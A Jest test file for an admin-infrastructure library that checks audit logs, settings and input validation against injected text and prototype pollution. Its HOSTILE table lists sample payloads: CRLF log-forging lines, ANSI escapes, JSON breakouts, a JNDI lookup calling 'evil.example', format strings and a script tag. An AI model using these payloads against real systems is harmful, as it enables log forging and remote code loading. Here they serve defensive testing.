import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';

import { Redacted } from '@maatify/admin-infra';
import type { AdminId, AuditIntent, SessionId } from '@maatify/admin-infra';
import { TEST_ORIGIN } from '@maatify/admin-infra/testing';

import { createLightWorld } from '../support/light-world.js';
import type { LightWorld } from '../support/light-world.js';
import { SCENARIOS } from '../support/scenarios/index.js';
import { endingOf, scenarioName } from '../support/scenarios/scenario.js';
import { as, auditOf, PASSWORD, person } from './support/people.js';

let world: LightWorld;
beforeEach(() => {
  world = createLightWorld();
});
afterEach(() => world.dispose());

/** What breaks a log that is put together from text. */
const HOSTILE: Readonly<Record<string, string>> = {
  'CR LF': 'ok\r\n2030-01-01 auth.login.success admin=root',
  'a line feed': 'ok\nERROR',
  'a line separator': 'ok\u2028ERROR',
  'a paragraph separator': 'ok\u2029ERROR',
  'an ANSI escape': '\u001b[2J\u001b[31mERROR\u001b[0m',
  'a bell and a backspace': 'ok\u0007\u0008\u0008',
  JSON: '{"type":"auth.login.success","actor":{"kind":"system","name":"root"}}',
  'the end of a JSON string': '","severity":"info","actor":{"kind":"system"},"x":"',
  'a lookup': '${jndi:ldap://evil.example/a}',
  'a format': '%s%n%x%d',
  markup: '<script>alert(1)</script>',
  'right-to-left': '\u202etxt.exe',
};
/** A text a host lets its admins write. */
const BANNER = {
  type: 'string',
  key: 'host.banner',
  description: 'What the sign-in page says.',
  category: 'system',
  default: 'Welcome.',
  strictest: 'Welcome.',
  minLength: 1,
  maxLength: 200,
  sensitive: false,
  changedBy: 'set',
} as const;
const ENVELOPE = [
  ...['actor', 'at', 'category', 'correlationId', 'eventId', 'metadata'],
  ...['operation', 'origin', 'severity', 'target', 'type'],
];

const isDeeplyFrozen = (value: unknown): boolean =>
  typeof value !== 'object' || value === null || (Object.isFrozen(value) && Object.values(value).every(isDeeplyFrozen));

describe('v5.0.0-16.4.1 F43 X3 one event is one record, whatever text is in it', () => {
  it.each(Object.entries(HOSTILE))('%s, as user agent, reason and name', async (_, text) => {
    const { actor } = await world.signedIn({
      abilities: ['admins.suspend', 'admins.create'],
      origin: { ...TEST_ORIGIN, userAgent: text },
    });
    const { AuditLogger } = world.infra.contracts;
    AuditLogger.clear();
    const adminId = world.someone();
    // A reason may have several lines; what moves a cursor or hides is refused, in a name line breaks too.
    const reason = text.replace(/[\u0007\u0008\u001b\u2028\u2029\u202e]/g, '');
    const name = reason.replace(/[\r\n]/g, '');
    if (reason !== text) as(await world.lifecycle.suspend(actor, { adminId, reason: text }), 'validation_failed');
    if (name !== text) as(await world.lifecycle.create(actor, { email: 'new@example.org', name: text }), 'validation_failed');
    as(await world.lifecycle.suspend(actor, { adminId, reason }), 'changed');
    const created = as(await world.lifecycle.create(actor, { email: 'new@example.org', name }), 'created');

    expect(created.admin.name).toBe(name);
    expect(AuditLogger.intents.map(({ type }) => type)).toEqual(['admin.status.changed', 'admin.suspended', 'admin.created']);
    for (const intent of AuditLogger.intents) expectOneRecord(intent, text);
    const [change] = auditOf(world, 'admin.status.changed');
    expect(change).toMatchObject({
      metadata: { from: 'active', to: 'suspended', reason },
      actor: { kind: 'admin', adminId: actor.adminId },
      target: { type: 'admin', id: adminId },
      category: 'admin',
      severity: 'notice',
    });
  });

  function expectOneRecord(intent: AuditIntent, userAgent: string): void {
    expect(Object.keys(intent).sort()).toEqual(ENVELOPE);
    expect(intent.origin.userAgent).toBe(userAgent);
    expect(isDeeplyFrozen(intent)).toBe(true);
    const line = JSON.stringify(intent);
    expect(line).not.toMatch(/[\r\n]/);
    expect(JSON.parse(line)).toEqual(intent);
  }

  it.each(Object.entries(HOSTILE))('%s, as a setting’s value', async (_, text) => {
    const own = createLightWorld(undefined, { settings: [BANNER] });
    const actor = await own.actor('system.settings.update');
    const { key } = BANNER;
    const ended = await own.settings.set(actor, { key, value: text });
    const written = auditOf(own, 'system.setting.updated').map(({ metadata }) => metadata);
    // What would hide from whoever reads it, or turn around, is no value; whatever else it is, it is one value of one record.
    const hides = /[\p{Cc}\p{Cf}\u2028\u2029]/u.test(text);
    expect(ended).toEqual(hides ? { outcome: 'invalid_value', rule: 'format' } : { outcome: 'changed', old: null, new: text });
    expect(written).toEqual(hides ? [] : [{ key, old: null, new: text }]);
    expect(own.infra.store.settings.size).toBe(hides ? 0 : 1);
    await own.dispose();
  });

  it('the fields of the envelope are nobody’s to send', async () => {
    const actor = await world.actor('admins.suspend');
    const adminId = world.someone();
    for (const key of ENVELOPE) {
      const result = await world.lifecycle.suspend(actor, { adminId, reason: 'x', [key]: 'forged' });
      expect(result).toEqual({ outcome: 'validation_failed', violations: [{ path: key, rule: 'unknown_field' }] });
    }
    for (const reason of [{ type: 'auth.login.success' }, ['x'], { toString: () => 'x' }]) {
      const result = await world.lifecycle.suspend(actor, { adminId, reason: reason as never });
      expect(result).toEqual({ outcome: 'validation_failed', violations: [{ path: 'reason', rule: 'text' }] });
    }
  });

  it('what cannot be stored or compared is refused or cleaned: NUL, lone surrogates, endless headers', async () => {
    const actor = await world.actor('admins.suspend');
    for (const reason of ['a\0b', '\ud800', 'x'.repeat(501), '']) {
      expect((await world.lifecycle.suspend(actor, { adminId: world.someone(), reason })).outcome).toBe('validation_failed');
    }
    const userAgent = `\ud800\0${'x'.repeat(10_000)}`;
    const signedIn = await world.signedIn({ origin: { ...TEST_ORIGIN, userAgent } });
    const kept = signedIn.actor.origin.userAgent ?? '';
    expect([kept.length <= 512, kept.isWellFormed(), kept.includes('\0')]).toEqual([true, true, false]);
  });

  it.each(['a b', 'a\nb', 'x'.repeat(65), '', 7, {}])('a correlation id that is none is replaced: %j', async (correlationId) => {
    const { email } = person(world, 'ada@example.org');
    const origin = { ...TEST_ORIGIN, correlationId: correlationId as string };
    await world.authentication.signIn({ email, password: Redacted.of(PASSWORD) }, origin);
    expect(auditOf(world, 'auth.login.success')[0]?.correlationId).toMatch(/^id-\d+$/);
  });

  it('a correlation id that is sent with everything makes no two intents one', async () => {
    const { email } = person(world, 'ada@example.org');
    const origin = { ...TEST_ORIGIN, correlationId: 'one-for-all' };
    for (const password of ['a guess', 'another', PASSWORD, PASSWORD]) {
      await world.authentication.signIn({ email, password: Redacted.of(password) }, origin);
      await world.credentials.requestPasswordRecovery({ email }, origin);
    }
    const { AuditLogger, NotificationDispatcher } = world.infra.contracts;
    const intents = [...AuditLogger.intents, ...NotificationDispatcher.intents];
    expect(new Set(intents.map(({ correlationId }) => correlationId))).toEqual(new Set(['one-for-all']));
    expect(intents.length).toBeGreaterThan(8);
    expect(new Set(intents.map(({ eventId }) => eventId)).size).toBe(intents.length);
  });
});

describe('F50 X4 names of built-in members are ordinary unknown keys', () => {
  const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];
  const members = (): readonly unknown[] =>
    [Object.prototype, Array.prototype, Map.prototype].map((one) => Object.getOwnPropertyNames(one));

  it.each(NAMES)('%s as a setting, a feature, an admin, a session, a system actor', async (name) => {
    const before = members();
    const actor = await world.actor('system.settings.view', 'system.settings.update', 'admins.view', 'admins.suspend');
    expect((await world.settings.setting(actor, { key: name })).outcome).toBe('unknown_key');
    expect((await world.settings.set(actor, { key: name, value: true })).outcome).toBe('unknown_key');
    expect(await world.settings.feature({ key: name })).toEqual({ outcome: 'feature_disabled', key: name });
    expect((await world.lifecycle.admin(actor, { adminId: name as AdminId })).outcome).toBe('not_found');
    expect((await world.lifecycle.suspend(actor, { adminId: name as AdminId, reason: name })).outcome).toBe('not_found');
    expect((await world.sessions.revokeOwn(actor, { sessionId: name as SessionId })).outcome).toBe('not_found');
    expect(() => world.systemActor(name)).toThrow('There is no system actor of that name');
    expect(members()).toEqual(before);
  });

  it.each(NAMES)('%s as a key of an input', async (name) => {
    const before = members();
    const input: object = JSON.parse(`{ "email": "ada@example.org", "password": "x", "${name}": { "isSuper": true } }`);
    const result = await world.authentication.signIn(input as never, TEST_ORIGIN);
    expect(result).toEqual({ outcome: 'validation_failed', violations: [{ path: name, rule: 'unknown_field' }] });
    expect(members()).toEqual(before);
    expect(({} as { isSuper?: unknown }).isSuper).toBeUndefined();
  });
});

describe('F51 Z2 what is inherited decides nothing', () => {
  // No name of an input field: class-validator itself trips over those, and nothing is admitted.
  const POLLUTION = {
    ...{ allowed: true, isActive: true, success: true, totpRequired: false, isSuper: true, enabled: false },
    ...{ decision: 'allow', outcome: 'won', verdict: 'match', step: 1, reserved: true, live: true },
  };

  /** Runs it in a process whose every object inherits these. */
  async function polluted<T>(run: () => Promise<T>): Promise<T> {
    Object.assign(Object.prototype, POLLUTION);
    try {
      return await run();
    } finally {
      for (const key of Object.keys(POLLUTION)) delete (Object.prototype as Record<string, unknown>)[key];
    }
  }

  it('every scenario ends as it did', async () => {
    for (const scenario of SCENARIOS) {
      const own = createLightWorld();
      const run = await scenario.arrange(own);
      const result = await polluted(run);
      expect([scenarioName(scenario), endingOf(Object.assign(Object.create(null), result))]).toEqual([
        scenarioName(scenario),
        scenario.ending,
      ]);
      await own.dispose();
    }
  });

  it.each([
    ['AbilityResolver', 'decide'],
    ['SystemSettingsReader', 'read'],
    ['AdminCommandRepository', 'changeStatus'],
  ] as const)('an answer of %s.%s without own fields is none', async (contract, method) => {
    const actor = await world.actor('admins.suspend');
    const adminId = world.someone();
    world.faults.plan({ contract, method, fault: { kind: 'answer', value: {} } } as never);
    const attempt = polluted(() => world.lifecycle.suspend(actor, { adminId, reason: 'x' }));
    await expect(attempt).rejects.toMatchObject({ failure: 'contract_violation', contract, method });
    expect(world.infra.store.admins.get(adminId)?.status).toBe('active');
  });

  it('neither is a verdict nobody gave', async () => {
    const { email } = person(world, 'ada@example.org');
    world.faults.plan({ contract: 'PasswordHasher', method: 'verify', fault: { kind: 'answer', value: {} } });
    const attempt = polluted(() => world.authentication.signIn({ email, password: Redacted.of('wrong') }, TEST_ORIGIN));
    await expect(attempt).rejects.toMatchObject({ failure: 'contract_violation' });
    expect(world.infra.store.sessions.size).toBe(0);
  });
});
